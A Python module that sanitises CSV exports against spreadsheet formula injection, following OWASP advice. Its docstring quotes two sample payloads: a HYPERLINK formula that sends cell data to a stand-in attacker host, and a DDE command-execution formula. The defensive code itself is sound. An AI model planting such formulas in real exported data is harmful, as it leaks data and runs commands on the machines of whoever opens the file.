"""CSV files that are safe to open in a spreadsheet (CSV or "formula" injection, OWASP).

Order files, party names and audit actors come from outside: a cell such as
``=HYPERLINK("http://evil.example/?x="&A1)`` or ``=cmd|' /C calc'!A0`` is run as a formula by
Excel or LibreOffice when the exported CSV is opened. Every CSV exportcheck writes therefore
puts a single quote before a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return, as OWASP recommends; the spreadsheet shows it as text. A text cell that
begins with a quote gets one more, so the rule can be undone: remove one leading ``'`` from
every cell that has one to get the value back (an auditor re-hashing an audit export does
this). Numbers are never changed: numeric columns are not touched, and a text cell that is
a plain number ("-5", "+1.5e3") is no formula and is written as it is.
"""

from __future__ import annotations

import re

import polars as pl

#: what a cell may begin with that a spreadsheet reads as a formula (or a quote, escaped so
#: the rule can be undone)
_RISKY = "=+-@\t\r'"
_RISKY_RE = r"^[=+\-@\t\r']"
_NUMBER_RE = r"^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$"
_NUMBER = re.compile(_NUMBER_RE)


def safe_cell(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet will not run (see the module docstring)."""
    if text and text[0] in _RISKY and not _NUMBER.match(text):
        return "'" + text
    return text


def unsafe_cell(text: str) -> str:
    """The value :func:`safe_cell` was given."""
    return text[1:] if text.startswith("'") else text


def safe_frame(df: pl.DataFrame) -> pl.DataFrame:
    """``df`` with :func:`safe_cell` applied to every text column (numeric columns as they
    are)."""
    exprs = []
    for name, dtype in df.schema.items():
        if dtype == pl.Utf8 or dtype == pl.Categorical or isinstance(dtype, pl.Enum):
            col = pl.col(name).cast(pl.Utf8)
            risky = col.str.contains(_RISKY_RE) & ~col.str.contains(_NUMBER_RE)
            exprs.append(pl.when(risky).then(pl.lit("'") + col).otherwise(col).alias(name))
    return df.with_columns(exprs) if exprs else df
